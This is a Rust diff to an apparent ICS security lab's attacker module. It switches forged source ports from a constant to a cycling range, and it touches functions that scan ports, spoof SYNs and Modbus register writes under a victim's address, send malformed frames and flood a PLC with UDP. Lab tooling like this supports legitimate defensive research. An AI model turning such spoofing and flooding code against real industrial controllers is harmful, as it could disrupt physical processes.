@@ -7,6 +7,7 @@ use std::{
     collections::BTreeMap,
     io,
     net::{Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream},
+    ops::Range,
     time::Duration,
 };
 
@@ -21,8 +22,8 @@ use super::{
     wire::{self, Path, RawSender, Seen, Transport},
 };
 
-/// The first source port of forged conversations; the attacker's stack uses none of these (32768 and up).
-const FORGED_PORTS: u16 = 20_000;
+/// The source ports of forged conversations, in turn; the stacks of the lab use none of these (32768 and up).
+const FORGED_PORTS: Range<u16> = 20_000..32_000;
 
 /// Whose doing a frame is, as judged at the PLC or anywhere else in the lab.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
@@ -135,7 +136,7 @@ impl<'a> Attacker<'a> {
             let answer = if flags.rst { Answer::Closed } else { Answer::Open };
             (to_us && flags.ack && (flags.syn || flags.rst)).then_some((src.port(), answer))
         })?;
-        for (source, port) in (FORGED_PORTS..).zip(ports) {
+        for (source, port) in FORGED_PORTS.cycle().zip(ports) {
             self.sender.send(&wire::tcp_syn(self.path(own, source, *port), 1000))?;
         }
         // Silence is an answer too: only the deadline can tell it, and it is no failure.
@@ -177,7 +178,7 @@ impl<'a> Attacker<'a> {
     /// `count` SYNs to the PLC's Modbus port with the address of `victim` and the attacker's MAC.
     pub fn spoofed_syns(&self, victim: &str, count: u16) -> Result<u64> {
         let (victim, port) = (self.lab.host(victim).ip, self.lab.modbus().port());
-        for source in FORGED_PORTS..FORGED_PORTS + count {
+        for source in FORGED_PORTS.cycle().take(usize::from(count)) {
             self.sender.send(&wire::tcp_syn(self.path(victim, source, port), 2000))?;
         }
         Ok(u64::from(count))
@@ -186,7 +187,7 @@ impl<'a> Attacker<'a> {
     /// `count` segments that claim to belong to a session of `victim` and carry a Modbus write.
     pub fn spoofed_writes(&self, victim: &str, count: u16, register: u16, value: u16) -> Result<u64> {
         let (victim, port) = (self.lab.host(victim).ip, self.lab.modbus().port());
-        for source in FORGED_PORTS..FORGED_PORTS + count {
+        for source in FORGED_PORTS.cycle().take(usize::from(count)) {
             let request = modbus_write(source, register, value);
             self.sender.send(&wire::tcp_data(self.path(victim, source, port), 3000, 4000, &request))?;
         }
@@ -203,16 +204,17 @@ impl<'a> Attacker<'a> {
 
     /// One of each [`malformed`] frame. A router's own stack drops most of them; a bridge passes them all.
     pub fn malformed(&self) -> Result<u64> {
-        let frames = malformed(self.path(self.host.ip, FORGED_PORTS, self.lab.modbus().port()));
+        let frames = malformed(self.path(self.host.ip, FORGED_PORTS.start, self.lab.modbus().port()));
         for (_, frame) in &frames {
             self.sender.send(frame)?;
         }
         Ok(sent(frames.len()))
     }
 
-    /// `count` datagrams to the PLC's port 9999 from `sources` different ports: as many distinct violations.
+    /// `count` datagrams to the PLC's port 9999 from `sources` different ports (at most 12,000): as many
+    /// distinct violations.
     pub fn udp_flood(&self, count: u64, sources: u16) -> Result<u64> {
-        let ports = (FORGED_PORTS..FORGED_PORTS + sources.max(1)).cycle();
+        let ports = FORGED_PORTS.take(usize::from(sources.max(1))).cycle();
         for (_, source) in (0..count).zip(ports) {
             self.sender.send(&wire::udp(self.path(self.host.ip, source, 9999), b"flood"))?;
         }
